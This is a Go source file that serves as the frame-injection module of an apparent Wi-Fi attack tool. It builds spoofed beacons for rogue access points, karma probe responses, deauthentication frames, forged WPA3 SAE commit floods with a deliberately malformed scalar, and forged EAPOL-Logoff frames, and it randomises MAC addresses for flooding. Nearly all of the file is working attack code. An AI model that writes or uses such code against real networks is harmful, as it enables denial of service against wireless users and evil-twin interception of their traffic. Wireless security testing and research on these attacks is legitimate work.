// Package injection crafts and transmits 802.11 management frames, spec
// §4.9: beacon floods, deauthentication, and karma probe-response. Frame
// construction is grounded on the teacher's injection/builders.go, which
// assembles RadioTap + Dot11 + Payload layers and serializes them with
// gopacket.SerializeLayers rather than hand-building the byte layout —
// kept here because it is the one gopacket serialization path this
// module has directly observed working in the teacher's own tests.
package injection

import (
	cryptorand "crypto/rand"
	"fmt"
	"net"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
)

const (
	beaconIntervalTU = 0x0064 // ~100ms, matches spec's fixed beacon interval
	capabilityInfo   = 0x0411 // ESS + Privacy + Short Slot Time
)

func radiotap() *layers.RadioTap {
	return &layers.RadioTap{Present: layers.RadioTapPresentRate, Rate: 5}
}

func ssidIE(ssid string) []byte {
	b := []byte(ssid)
	return append([]byte{0, byte(len(b))}, b...)
}

func dsParamSetIE(channel uint8) []byte {
	return []byte{3, 1, channel}
}

func supportedRatesIE() []byte {
	rates := []byte{0x82, 0x84, 0x8b, 0x96}
	return append([]byte{1, byte(len(rates))}, rates...)
}

func fixedMgmtParams() []byte {
	params := make([]byte, 12)
	params[8] = byte(beaconIntervalTU)
	params[9] = byte(beaconIntervalTU >> 8)
	params[10] = byte(capabilityInfo)
	params[11] = byte(capabilityInfo >> 8)
	return params
}

// BuildBeacon serializes a beacon frame advertising ssid from bssid on
// channel, with src == bssid (the common case for a spoofed/rogue AP).
func BuildBeacon(ssid string, bssid, src net.HardwareAddr, channel uint8, seq uint16) ([]byte, error) {
	broadcast, _ := net.ParseMAC("ff:ff:ff:ff:ff:ff")
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtBeacon,
		Address1:       broadcast,
		Address2:       src,
		Address3:       bssid,
		SequenceNumber: seq,
	}

	payload := fixedMgmtParams()
	payload = append(payload, ssidIE(ssid)...)
	payload = append(payload, supportedRatesIE()...)
	payload = append(payload, dsParamSetIE(channel)...)

	return serialize(dot11, payload)
}

// BuildProbeResponse serializes a karma-style probe response: dst is the
// station that sent the triggering probe request.
func BuildProbeResponse(ssid string, dst, bssid net.HardwareAddr, channel uint8, seq uint16) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtProbeResp,
		Address1:       dst,
		Address2:       bssid,
		Address3:       bssid,
		SequenceNumber: seq,
	}

	payload := fixedMgmtParams()
	payload = append(payload, ssidIE(ssid)...)
	payload = append(payload, supportedRatesIE()...)
	payload = append(payload, dsParamSetIE(channel)...)

	return serialize(dot11, payload)
}

// BuildDeauth serializes a deauthentication frame from bssid directed at
// station (or broadcast). Grounded on builders.go's
// serializeManagementFrame, narrowed to the single subtype this spec's
// deauth engine needs.
func BuildDeauth(station, bssid net.HardwareAddr, reasonCode uint16, seq uint16) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtDeauthentication,
		Address1:       station,
		Address2:       bssid,
		Address3:       bssid,
		SequenceNumber: seq,
		DurationID:     0x0000,
	}
	reason := &layers.Dot11MgmtDeauthentication{Reason: layers.Dot11Reason(reasonCode)}

	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
	if err := gopacket.SerializeLayers(buf, opts, radiotap(), dot11, reason); err != nil {
		return nil, fmt.Errorf("injection: serialize deauth: %w", err)
	}
	return buf.Bytes(), nil
}

// saeCommitAlgorithm is the 802.11 authentication algorithm number for
// SAE (WPA3), spec §6's `attack -s` SAE flood target.
const saeCommitAlgorithm = 0x0003

// BuildSAEAuthFlood serializes a forged SAE commit-message authentication
// frame from src, addressed to bssid. Grounded on the teacher's
// injector.go auth-flood loop, which hand-builds the fixed auth fields as
// a raw payload rather than a typed Dot11MgmtAuthentication layer.
func BuildSAEAuthFlood(src, bssid net.HardwareAddr, seq uint16) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtAuthentication,
		Address1:       bssid,
		Address2:       src,
		Address3:       bssid,
		SequenceNumber: seq,
	}

	payload := []byte{
		byte(saeCommitAlgorithm), byte(saeCommitAlgorithm >> 8), // Algorithm: SAE
		0x01, 0x00, // Sequence: 1 (Commit)
		0x00, 0x00, // Status: Successful
	}
	// SAE finite cyclic group (group 19, NIST P-256) plus a deliberately
	// undersized scalar/element to stress the target's SAE state machine.
	payload = append(payload, 0x13, 0x00)
	payload = append(payload, 0x00)

	return serialize(dot11, payload)
}

// eapolVersion is the 802.1X protocol version this module advertises.
const eapolVersion = 1

// eapolTypeLogoff is the EAPOL frame type for a Logoff message (802.1X
// §11.3.2).
const eapolTypeLogoff = 0x02

// llcSnapEAPOLHeader is the fixed 8-byte LLC/SNAP encapsulation every
// EAPOL frame carries over the air: DSAP/SSAP 0xAA, unnumbered-information
// control 0x03, zero OUI, EtherType 0x888E.
var llcSnapEAPOLHeader = []byte{0xaa, 0xaa, 0x03, 0x00, 0x00, 0x00, 0x88, 0x8e}

// BuildEAPOLLogoff serializes a forged EAPOL-Logoff frame, addressed as a
// Data frame from station to bssid, which knocks the station's 802.1X
// session off without ever deauthenticating it at the 802.11 layer. The
// LLC/SNAP/EAPOL header is hand-built as a raw payload, matching this
// file's existing IE-building style, since gopacket's LLC/SNAP layers
// would otherwise need to be threaded through SerializeLayers for no
// benefit over these 8 fixed bytes.
func BuildEAPOLLogoff(station, bssid net.HardwareAddr, seq uint16) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeData,
		Address1:       bssid,
		Address2:       station,
		Address3:       bssid,
		SequenceNumber: seq,
	}
	dot11.Flags = layers.Dot11Flags(0x01) // ToDS: station -> AP

	payload := append([]byte{}, llcSnapEAPOLHeader...)
	payload = append(payload, eapolVersion, eapolTypeLogoff, 0x00, 0x00) // zero-length body

	return serialize(dot11, payload)
}

func serialize(dot11 *layers.Dot11, payload []byte) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
	if err := gopacket.SerializeLayers(buf, opts, radiotap(), dot11, gopacket.Payload(payload)); err != nil {
		return nil, fmt.Errorf("injection: serialize frame: %w", err)
	}
	return buf.Bytes(), nil
}

// RandomMAC returns a random, locally-administered unicast MAC, used to
// randomize the source/BSSID of a beacon flood per-frame.
func RandomMAC() net.HardwareAddr {
	buf := make([]byte, 6)
	if _, err := cryptorand.Read(buf); err != nil {
		// fall back to a fixed locally-administered MAC rather than
		// transmitting an all-zero address
		return net.HardwareAddr{0x02, 0, 0, 0, 0, 1}
	}
	buf[0] = (buf[0] | 0x02) & 0xfe
	return net.HardwareAddr(buf)
}
